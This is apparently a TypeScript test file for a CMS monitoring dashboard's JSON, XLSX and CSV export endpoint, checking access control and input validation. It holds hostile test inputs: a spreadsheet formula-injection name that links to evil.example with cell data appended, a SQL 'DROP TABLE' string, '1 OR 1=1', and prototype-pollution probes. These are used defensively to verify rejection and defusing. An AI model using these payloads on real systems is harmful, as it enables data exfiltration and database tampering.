import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { handleEndpoints, type Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { MonitoringOwnRow } from '../../cms/components/monitoring/MonitoringOwnRow'
import { lightText } from '../../domain/monitoring/exportTable'
import { INDICATOR_LABELS } from '../../domain/monitoring/indicatorLabels'
import { INDICATOR_IDS, type OrgRow } from '../../domain/monitoring/indicatorTypes'
import { startTestPayload, type TestPayload } from '../helpers/testPayload'
import { buildWorld, PASSWORD, type World } from '../helpers/world'

/**
 * The dashboard's JSON and its exports (issue 18): the view's filters apply server-side, the
 * XLSX (read back with exceljs) and the CSV (read back with csv-parse) hold exactly the rows
 * the JSON shows, and the endpoint refuses what it must — another org's subtree, anonymous
 * callers, hostile parameters — in Russian, never with a 500.
 */
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1;"ППО А2")'

let t: TestPayload
let payload: Payload
let world: World
const tokens = new Map<string, string>()

async function token(email: string) {
  if (!tokens.has(email)) {
    const { token: jwt } = await payload.login({
      collection: 'users',
      data: { email, password: PASSWORD },
    })
    tokens.set(email, jwt!)
  }
  return tokens.get(email)!
}

async function get(path: string, email?: string): Promise<Response> {
  const headers = new Headers()
  if (email) headers.set('Authorization', `JWT ${await token(email)}`)
  const request = new Request(`http://localhost:3000/api${path}`, { headers })
  return handleEndpoints({ config: payload.config, request })
}

async function json(path: string, email?: string) {
  const response = await get(path, email)
  return { status: response.status, body: (await response.json()) as any }
}

const terAdmin = () => world.users.terAdmin.email
const today = () => new Date().toISOString().slice(0, 10)

beforeAll(async () => {
  t = await startTestPayload()
  payload = t.payload
  world = await buildWorld(payload)
  // An org name a hostile editor could type: it must reach the spreadsheet as inert text.
  await payload.update({
    collection: 'organizations',
    id: world.orgs.ppoA2,
    data: { name: HOSTILE_NAME },
    depth: 0,
  } as never)
}, 480_000)

afterAll(async () => {
  await t?.close()
})

describe('GET /api/monitoring/:orgId — the view', () => {
  it('a Терком admin gets its subtree, filtered and paged on the server', async () => {
    const all = await json(`/monitoring/${world.orgs.terA}`, terAdmin())
    expect(all.status).toBe(200)
    expect(all.body.total).toBe(3)
    expect(all.body.root.id).toBe(String(world.orgs.terA))
    const ppo = await json(`/monitoring/${world.orgs.terA}?kind=primary_org&sort=-name`, terAdmin())
    expect(ppo.body.rows.map((r: OrgRow) => r.name)).toEqual(['ППО А1', HOSTILE_NAME])
    const paged = await json(`/monitoring/${world.orgs.terA}?limit=1&page=2`, terAdmin())
    expect(paged.body).toMatchObject({ page: 2, pages: 3, total: 3, limit: 1 })
    expect(paged.body.rows).toHaveLength(1)
    const found = await json(
      `/monitoring/${world.orgs.terA}?q=${encodeURIComponent('ппо а1')}`,
      terAdmin(),
    )
    expect(found.body.rows.map((r: OrgRow) => r.name)).toEqual(['ППО А1'])
  })
})

describe('exports of the current view', () => {
  const view = `kind=primary_org&sort=name`

  async function jsonRows(): Promise<OrgRow[]> {
    return (await json(`/monitoring/${world.orgs.terA}?${view}&limit=200`, terAdmin())).body.rows
  }

  it('XLSX: named by the org slug and date (RFC 6266), read back equal to the JSON rows', async () => {
    const response = await get(`/monitoring/${world.orgs.terA}?${view}&format=xlsx`, terAdmin())
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toContain('spreadsheetml')
    const name = `monitoring-ter-a-${today()}.xlsx`
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="${name}"; filename*=UTF-8''${name}`,
    )
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await response.arrayBuffer())
    const sheet = workbook.getWorksheet('Показатели')!
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet.autoFilter).toBeTruthy()
    const header = (sheet.getRow(1).values as string[]).slice(1)
    const rows = await jsonRows()
    expect(sheet.rowCount).toBe(rows.length + 1)
    rows.forEach((row, i) => {
      const cells = (sheet.getRow(i + 2).values as string[]).slice(1)
      expect(cells[0]).toBe(row.name)
      for (const id of INDICATOR_IDS) {
        const at = header.indexOf(INDICATOR_LABELS[id])
        expect(cells[at]).toBe(lightText(row.indicators[id].light))
        expect(cells[at + 1] ?? '').toBe(row.indicators[id].reason)
      }
    })
    // The formula typed as a name is a string cell: nothing for Excel to run.
    const hostile = sheet.getRow(rows.findIndex((r) => r.name === HOSTILE_NAME) + 2).getCell(1)
    expect(hostile.type).toBe(ExcelJS.ValueType.String)
    expect(hostile.formula).toBeUndefined()
    expect(workbook.getWorksheet('Сводка')!.rowCount).toBeGreaterThan(1)
  })

  it('CSV: BOM, `;`, CRLF, read back equal to the JSON rows, the formula defused', async () => {
    const response = await get(`/monitoring/${world.orgs.terA}?${view}&format=csv`, terAdmin())
    expect(response.status).toBe(200)
    expect(response.headers.get('content-disposition')).toContain(
      `filename*=UTF-8''monitoring-ter-a-${today()}.csv`,
    )
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer())
    expect(text.charCodeAt(0)).toBe(0xfeff)
    expect(text.split('\r\n').length).toBeGreaterThan(2)
    const back: string[][] = parse(text.slice(1), { delimiter: ';', record_delimiter: '\r\n' })
    const rows = await jsonRows()
    expect(back).toHaveLength(rows.length + 1)
    rows.forEach((row, i) => {
      const cells = back[i + 1]!
      expect(cells[0]).toBe(row.name === HOSTILE_NAME ? `'${HOSTILE_NAME}` : row.name)
      for (const id of INDICATOR_IDS) {
        const at = back[0]!.indexOf(INDICATOR_LABELS[id])
        expect(cells[at]).toBe(lightText(row.indicators[id].light))
      }
    })
    expect(back.flat().some((cell) => /^[=+\-@]/.test(cell))).toBe(false)
  })
})

describe('attacks on the endpoint', () => {
  it('another org’s subtree (a sibling, the parent) is 403, JSON and exports alike', async () => {
    for (const org of [world.orgs.terB, world.orgs.unionA, world.orgs.fed])
      for (const format of ['', '?format=xlsx', '?format=csv']) {
        const response = await json(`/monitoring/${org}${format}`, terAdmin())
        expect(response.status, `${org}${format}`).toBe(403)
        expect(response.body.errors[0].message).toBe('Мониторинг этой организации вам недоступен.')
      }
    // A ППО's editor sees its own row, never its Терком.
    expect(
      (await json(`/monitoring/${world.orgs.terA}?format=xlsx`, world.users.ppoEditor.email))
        .status,
    ).toBe(403)
    expect(
      (await json(`/monitoring/${world.orgs.ppoA1}`, world.users.ppoEditor.email)).body.total,
    ).toBe(1)
  })

  it('anonymous: 401', async () => {
    const response = await json(`/monitoring/${world.orgs.terA}?format=xlsx`)
    expect(response.status).toBe(401)
    expect(response.body.errors[0].message).toBe('Войдите в систему.')
  })

  it.each([
    ['q=%00', 'Строка поиска содержит недопустимые символы.'],
    [`q=${'я'.repeat(500)}`, 'Строка поиска длиннее 100 знаков.'],
    ['sort=name%3BDROP%20TABLE%20organizations', 'Нельзя сортировать по этому столбцу.'],
    ['sort=__proto__', 'Нельзя сортировать по этому столбцу.'],
    ['failing=constructor', 'Неизвестный показатель в фильтре.'],
    ['failing=site&failing=news7', 'Параметр «failing» указан несколько раз.'],
    ['format=pdf', 'Формат выгрузки: xlsx или csv.'],
    ['format=xlsx&limit=-1', 'Размер страницы — от 1 до 200.'],
  ])('hostile %s → 400 in Russian', async (search, message) => {
    const response = await json(`/monitoring/${world.orgs.terA}?${search}`, terAdmin())
    expect(response.status).toBe(400)
    expect(response.body.errors[0].message).toBe(message)
  })

  it('a malformed id is 400, an unknown one 404', async () => {
    expect((await json('/monitoring/1%20OR%201=1', terAdmin())).status).toBe(400)
    const unknown = await json('/monitoring/987654321', world.users.platform.email)
    expect(unknown.status).toBe(404)
    expect(unknown.body.errors[0].message).toBe('Организация не найдена.')
  })
})

describe('the admin home page', () => {
  it('shows an editor her own org’s row and what to fix, nothing of other orgs', async () => {
    const render = async (email: string) => {
      const { docs } = await payload.find({
        collection: 'users',
        where: { email: { equals: email } },
        depth: 0,
      })
      return JSON.stringify(
        await MonitoringOwnRow({ payload, user: { ...docs[0], collection: 'users' } as never }),
      )
    }
    const editor = await render(world.users.ppoEditor.email)
    expect(editor).toContain('ППО А1')
    expect(editor).toContain(`/admin/monitoring?org=${world.orgs.ppoA1}`)
    expect(editor).not.toContain('Терком А')
    const admin = await render(terAdmin())
    expect(admin).toContain('Терком А')
    expect(admin).not.toContain('ППО А1')
  })
})
